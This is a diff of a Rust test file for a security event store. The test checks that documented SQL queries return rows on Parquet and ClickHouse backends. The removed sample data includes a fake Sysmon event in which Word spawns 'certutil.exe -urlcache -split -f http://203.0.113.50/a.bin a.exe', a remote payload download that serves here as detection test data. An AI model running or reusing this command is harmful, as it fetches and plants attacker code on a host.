@@ -1,153 +1,117 @@
-//! Every query of `docs/queries.md` runs on the Parquet store, on sample data written
-//! for it, and returns rows.
+//! Every query of `docs/queries.md` runs on sample data and returns rows: on the
+//! Parquet store, on the ClickHouse store (the test server, Debian's 18.16), and, with
+//! the modern ClickHouse schema, in a current ClickHouse engine (chDB, ClickHouse 26.x
+//! in-process, driven by `chdb_modern.py`).
 
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
 mod common;
 
-use vedette_core::alert::{alerts_to_batch, Alert, DetectionKind, Level};
-use vedette_core::batch::EventBatch;
-use vedette_core::dead_letter::{dead_letters_to_batch, DeadLetter};
-use vedette_core::event::{Event, EventBatchBuilder};
-use vedette_core::traits::{EventStore, Table};
+use std::process::Command;
+
+use common::doc_queries::{queries, sample_alerts_and_dead_letters, sample_events, Dialect};
+use vedette_core::traits::{EventStore, Table, WriteBatching};
+use vedette_storage::clickhouse::{self, ClickHouseOptions, ClickHouseStore, Profile};
 use vedette_storage::parquet::ParquetStore;
 use vedette_storage::QueryLimits;
 
-/// The SQL blocks of a markdown text.
-fn sql_blocks(markdown: &str) -> Vec<String> {
-    let mut blocks = Vec::new();
-    let mut current: Option<String> = None;
-    for line in markdown.lines() {
-        match (&mut current, line.trim()) {
-            (None, "```sql") => current = Some(String::new()),
-            (Some(_), "```") => blocks.extend(current.take()),
-            (Some(block), _) => {
-                block.push_str(line);
-                block.push('\n');
-            }
-            (None, _) => {}
-        }
-    }
-    blocks
-}
-
-/// An hour of a small Windows network: logins (some failed), process starts under a
-/// few parents, a certutil download.
-fn sample_events(now: i64) -> EventBatch {
-    let mut b = EventBatchBuilder::new();
-    let mut n = 0;
-    let mut push = |e: Event| {
-        n += 1;
-        b.append(&Event {
-            id: format!("q-{n}"),
-            ingested_ms: now,
-            ..e
-        });
-    };
-    for i in 0..30 {
-        push(Event {
-            timestamp_ms: now - 3_600_000 + i * 60_000,
-            dataset: "windows.security".into(),
-            category: Some("authentication".into()),
-            outcome: Some(if i % 3 == 0 { "failure" } else { "success" }.into()),
-            user_name: Some(format!("user-{}", i % 4)),
-            host_name: Some(format!("dc-{}", i % 2)),
-            code: Some("4625".into()),
-            ..Event::default()
-        });
-    }
-    for (i, (parent, child, cmd)) in [
-        (
-            "C:\\Windows\\explorer.exe",
-            "C:\\Windows\\System32\\notepad.exe",
-            "notepad.exe a.txt",
-        ),
-        (
-            "C:\\Windows\\explorer.exe",
-            "C:\\Windows\\System32\\cmd.exe",
-            "cmd.exe /c dir",
-        ),
-        (
-            "C:\\Program Files\\Microsoft Office\\WINWORD.EXE",
-            "C:\\Windows\\System32\\certutil.exe",
-            "certutil.exe -urlcache -split -f http://203.0.113.50/a.bin a.exe",
-        ),
-    ]
-    .iter()
-    .enumerate()
-    {
-        push(Event {
-            timestamp_ms: now - 600_000 + i as i64 * 1000,
-            dataset: "windows.sysmon".into(),
-            category: Some("process".into()),
-            host_name: Some(format!("ws-{i}")),
-            user_name: Some("asmith".into()),
-            process_executable: Some((*child).into()),
-            parent_executable: Some((*parent).into()),
-            process_command_line: Some((*cmd).into()),
-            fields: vec![
-                ("EventID".into(), "1".into()),
-                ("CommandLine".into(), (*cmd).into()),
-            ],
-            ..Event::default()
-        });
-    }
-    EventBatch::new(b.finish().unwrap(), "doc", "acme", now)
-}
-
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn every_documented_query_runs_and_returns_rows() {
-    let markdown =
-        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/queries.md"))
-            .unwrap();
-    let queries = sql_blocks(&markdown);
-    assert!(queries.len() >= 6, "{} queries found", queries.len());
-    let dir = tempfile::tempdir().unwrap();
-    let store = ParquetStore::open(dir.path(), 30, QueryLimits::default()).unwrap();
-    let now = chrono::Utc::now().timestamp_millis();
+async fn load_samples(store: &dyn EventStore, now: i64) {
     store
         .append(Table::Events, &sample_events(now))
         .await
         .unwrap();
-    let alert = Alert {
-        id: "a1".into(),
-        time_ms: now - 1000,
-        tenant: "acme".into(),
-        kind: DetectionKind::Sigma,
-        rule_id: "d2644136-7400-49e4-8b45-45b687d7b72a".into(),
-        rule_title: "Certutil Used to Download a File".into(),
-        rule_author: None,
-        level: Level::High,
-        tags: vec![],
-        host: Some("ws-2".into()),
-        user: Some("asmith".into()),
-        event_ids: vec!["q-33".into()],
-        matched: Default::default(),
-        dedup_key: "k".into(),
-    };
-    let alerts = EventBatch::new(alerts_to_batch(&[alert]).unwrap(), "detect", "acme", now);
-    store.append(Table::Alerts, &alerts).await.unwrap();
-    let dead = DeadLetter::new(
-        now,
-        "acme",
-        "syslog-tcp",
-        "cef",
-        0,
-        "CEF header has 2 of its 8 `|`-separated fields",
-        b"CEF:0|x",
-    );
-    let letters = EventBatch::new(
-        dead_letters_to_batch(&[dead]).unwrap(),
-        "ingest",
-        "acme",
-        now,
-    );
-    store.append(Table::DeadLetters, &letters).await.unwrap();
-    for sql in &queries {
-        let batches = common::store_suite::rows(&store, sql)
+    for (table, batch) in sample_alerts_and_dead_letters(now) {
+        store.append(table, &batch).await.unwrap();
+    }
+}
+
+async fn every_query_returns_rows(store: &dyn EventStore, dialect: Dialect) {
+    for sql in queries(dialect) {
+        let batches = common::store_suite::rows(store, &sql)
             .await
             .unwrap_or_else(|e| panic!("{e}\n{sql}"));
         let rows: usize = batches.iter().map(|b| b.num_rows()).sum();
         assert!(rows > 0, "no rows from\n{sql}");
     }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn every_documented_query_runs_on_parquet() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = ParquetStore::open(dir.path(), 30, QueryLimits::default()).unwrap();
+    load_samples(&store, chrono::Utc::now().timestamp_millis()).await;
+    every_query_returns_rows(&store, Dialect::DataFusion).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn every_documented_query_runs_on_clickhouse() {
+    let url = std::env::var("VEDETTE_CLICKHOUSE_URL").expect(
+        "VEDETTE_CLICKHOUSE_URL is not set: start the test services with deploy/local/up.sh",
+    );
+    let database = format!("vt_doc_{}", std::process::id());
+    ::clickhouse::Client::default()
+        .with_url(&url)
+        .query(&format!("DROP DATABASE IF EXISTS {database}"))
+        .execute()
+        .await
+        .unwrap();
+    let store = ClickHouseStore::open(ClickHouseOptions {
+        url,
+        database,
+        user: "default".into(),
+        password: None,
+        retention_days: 30,
+        limits: QueryLimits::default(),
+        batching: WriteBatching::IMMEDIATE,
+    })
+    .await
+    .unwrap();
+    load_samples(&store, chrono::Utc::now().timestamp_millis()).await;
+    every_query_returns_rows(&store, Dialect::ClickHouse).await;
+}
+
+/// The modern schema and every ClickHouse query, in ClickHouse 26.x (chDB): the DDL
+/// is accepted, rows encoded for it load, and each query returns rows.
+#[test]
+fn the_modern_dialect_runs_in_a_current_clickhouse() {
+    let dir = tempfile::tempdir().unwrap();
+    let now = chrono::Utc::now().timestamp_millis();
+    let mut inserts = Vec::new();
+    let mut batches = vec![(Table::Events, sample_events(now))];
+    batches.extend(sample_alerts_and_dead_letters(now));
+    for (table, batch) in &batches {
+        let (structure, rows) = clickhouse::row_binary(*table, Profile::Modern, batch).unwrap();
+        let file = dir.path().join(format!("{}.bin", table.name()));
+        std::fs::write(&file, rows).unwrap();
+        inserts.push(serde_json::json!({
+            "table": table.name(),
+            "structure": structure,
+            "file": file,
+        }));
+    }
+    let manifest = serde_json::json!({
+        "database": "vedette",
+        "statements": clickhouse::schema_statements("vedette", Profile::Modern, 30).unwrap(),
+        "inserts": inserts,
+        "queries": queries(Dialect::ClickHouse)
+            .into_iter()
+            .chain([clickhouse::read_events_sql("vedette", Profile::Modern, now - 86_400_000, now + 1)])
+            .collect::<Vec<_>>(),
+    });
+    let manifest_path = dir.path().join("manifest.json");
+    std::fs::write(&manifest_path, manifest.to_string()).unwrap();
+    let python = std::env::var("VEDETTE_PYTHON").unwrap_or_else(|_| "python3".into());
+    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/chdb_modern.py");
+    let out = Command::new(&python)
+        .arg(script)
+        .arg(&manifest_path)
+        .output()
+        .unwrap_or_else(|e| panic!("cannot run {python}: {e} (set VEDETTE_PYTHON)"));
+    let report = format!(
+        "{}\n{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(out.status.success(), "chdb_modern.py failed:\n{report}");
+    assert!(report.contains("all queries returned rows"), "{report}");
 }
